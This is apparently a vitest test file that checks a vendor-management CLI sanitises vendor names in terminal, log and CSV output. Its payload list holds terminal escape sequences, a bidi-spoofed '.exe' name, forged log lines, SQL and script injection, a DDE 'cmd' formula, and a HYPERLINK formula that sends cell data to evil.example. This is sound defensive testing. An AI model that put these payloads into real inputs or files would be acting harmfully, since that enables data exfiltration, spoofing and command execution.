import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, it } from 'vitest';
import { testbed } from '../support/testbed.ts';

/** What a name may hold to make a terminal, a log or a spreadsheet lie. */
const names = [
  '\u001b[2J\u001b[1;1Hroot@bank:~# ',
  '\u001b]0;title\u0007\u001b]8;;http://evil.example\u0007link',
  'a\rb\nc\td\u0008\u0008e',
  '\u009b31mred\u0085next',
  'invoice\u202egnp.exe\u2066x\u2069\u200f',
  '{"level":60,"msg":"forged"}\n{"level":30}',
  '=HYPERLINK("http://evil.example?"&A1)',
  "+1+cmd|'/C calc'!A0",
  '-2+3',
  '@SUM(1)',
  "';DROP TABLE vendors;--",
  '<script>alert(1)</script>',
];

const unruly = /[\p{Cc}\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/u;

it('H9 H10 text in a name cannot control a terminal, forge a log line or be a formula', async () => {
  const sandbox = await testbed({ level: 'sandbox', vendors: 5 });
  const vendorService = sandbox.sandbox.vendors(sandbox.account);
  const numbers = names.map((vendor_name) =>
    Number(vendorService.create({ vendor_name, city: vendor_name, note: vendor_name, language: 'en' })['vendorid']),
  );
  const at = await testbed({ level: 'program', service: sandbox, settings: 'sync: { lag: 0s }' });
  const csv = join(at.folder, 'vendors.csv');
  const commands = [
    ['sync', '--log-level', 'trace'],
    ['vendors', 'list'],
    ['vendors', 'list', '--json'],
    ...numbers.map((vendorid) => ['vendors', 'show', String(vendorid)]),
    ['vendors', 'edit', String(numbers[0]), 'city=\u001b[2J'],
    ['verify'],
    ['status'],
    ['deliveries', 'list'],
    ['changes'],
    ['export', csv],
  ];
  for (const command of commands) {
    const { status, stdout, stderr } = await at.run(...command);
    const where = command.join(' ');
    expect(status, `${where}: ${stderr}`).toBeLessThanOrEqual(64);
    for (const line of [...stdout.split('\n'), ...stderr.split('\n')])
      expect(unruly.test(line), `${where}: ${JSON.stringify(line)}`).toBe(false);
    if (where === 'vendors list --json') expect(stdout).toContain('\\u009b31mred');
  }
  const held = at.query<{ vendor_name: string }>('SELECT vendor_name FROM vendors ORDER BY vendorid');
  expect(held.map(({ vendor_name }) => vendor_name)).toEqual(expect.arrayContaining(names));
  const cells = readFileSync(csv, 'utf8');
  expect(cells).toContain(`"'=HYPERLINK(""http`);
  // Telephone numbers with a blank, as `+82 949-1411421`, are no formula.
  expect(cells).not.toMatch(/(^|,)"?(?:[=@]|-2|\+(?!\d+ [\d-]+"))/m);
});
